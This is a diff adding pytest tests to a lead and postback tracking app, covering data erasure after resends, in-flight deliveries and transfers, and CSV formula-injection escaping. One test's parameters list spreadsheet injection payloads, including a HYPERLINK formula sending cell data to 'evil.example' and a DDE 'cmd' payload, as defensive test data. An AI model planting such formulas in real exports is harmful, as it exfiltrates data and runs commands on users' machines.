@@ -5,14 +5,25 @@ from __future__ import annotations
 import csv
 import io
 import json
+import time
 
 import pytest
 
 from app.extensions import db
-from app.models import Attempt, JournalEntry, Lead, Message, Postback, Unreachable, Update
+from app.models import (
+    Attempt,
+    JournalEntry,
+    Lead,
+    Message,
+    Postback,
+    PostbackState,
+    Unreachable,
+    Update,
+)
 from app.schemas.csv import BROKE_OFF, lines
 from app.schemas.leads import LeadOut
-from app.services import leads_list
+from app.services import leads_list, outbox
+from app.services.outbox import Settled, Tried
 
 NOON = 1_780_000_000
 PERSON = 9_876_543_210
@@ -78,7 +89,7 @@ def person(world):
     for state in (0, 2):
         postback = world.postback(
             7, lead_id=lead, event=json.dumps(event), state=state, sequence=state + 1,
-            carried='{"id": "profile5f"}',
+            carried='{"id": "profile5f"}', campaign_id=campaign,
         )  # fmt: skip
         world.attempt(postback, request="GET https://t/?c=abc456xyz", answer="hi alice")
     message = {"account_id": world.account_id, "bot_id": bot, "chat_id": PERSON}
@@ -124,3 +135,63 @@ def test_another_account_keeps_its_own(api, other, others_world, person):
     lead = others_world.lead(others_world.campaign(), subscriber=PERSON)
     api.post("leads/erase", subscriber=PERSON)
     assert api(other.key).get("leads/get", id=lead)["data"]["subscriber"] == PERSON
+
+
+def test_what_an_erased_person_was_reported_for_is_not_sent_again(api, person):
+    api.post("leads/erase", subscriber=PERSON)
+    postbacks = [row["id"] for row in api.get("postbacks/list")["data"]]
+    assert [api.post("postbacks/resend", id=one)["data"] for one in postbacks] == [
+        {"count": 0}, {"count": 0},
+    ]  # fmt: skip
+
+
+def test_a_postback_in_the_air_does_not_bring_an_erased_person_back(api, person):
+    row = db.session.query(Postback).filter_by(state=0).one()
+    row.state, row.lease, row.lease_until = 1, "lease", time.time() + 60
+    number, now = row.id, time.time()
+    db.session.commit()
+    api.post("leads/erase", subscriber=PERSON)
+    failed = Settled(number, PostbackState.WAITING, "500", 1, 0, now, now, None, TRACES[4])
+    tried = Tried(number, 0, 1, "", now, 5, "GET https://t/?c=abc456xyz", 500, "hi alice",
+                  "retry", "500", now, "key")  # fmt: skip
+    batch = outbox.Batch(settled=[failed], tried=[tried])
+    outbox.settle(db.session.connection(), "lease", batch, now)
+    db.session.commit()
+    after = everything()
+    assert [trace for trace in TRACES if trace in after] == []
+    assert sorted(one["state"] for one in api.get("postbacks/list")["data"]) == [
+        "delivered", "discarded",
+    ]  # fmt: skip
+
+
+@pytest.mark.parametrize("kind", ["bot", "camp"])
+def test_both_sides_of_a_transfer_can_erase_what_they_keep(api, other, others_world, person, kind):
+    theirs = api(other.key)
+    token = theirs.get("transfer/token")["data"]["token"]
+    (campaign,) = api.get("camp/list")["data"]
+    others_world.chat(bot := others_world.bot(), chat_id=campaign["chat"])
+    moved = {"id": campaign["bot"]} if kind == "bot" else {"id": campaign["id"], "bot": bot}
+    given = api.post(f"transfer/{kind}", token=token, leads=True, **moved)
+    assert given["status"] == "ok", given
+    assert "abc456xyz" in everything()
+    api.post("leads/erase", subscriber=PERSON)  # the postbacks that stayed
+    assert all(str(PERSON) not in str(one.event) for one in db.session.query(Postback))
+    db.session.commit()
+    assert theirs.post("leads/erase", subscriber=PERSON)["data"] == {"count": 1}
+    assert [one.text for one in db.session.query(Message)] == [""]
+    db.session.commit()
+
+
+@pytest.mark.parametrize(
+    ("click", "shown"),
+    [
+        ('=HYPERLINK("http://evil.example/?"&A1)', '\'=HYPERLINK("http://evil.example/?"&A1)'),
+        ("@SUM(1)", "'@SUM(1)"),
+        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+        ("-12", "-12"),
+        ("plain=1", "plain=1"),
+    ],
+)
+def test_a_spreadsheet_runs_nothing_that_people_have_typed(client, account, world, click, shown):
+    world.lead(world.campaign(), click=click)
+    assert [row["click"] for row in rows(client, account)] == [shown]
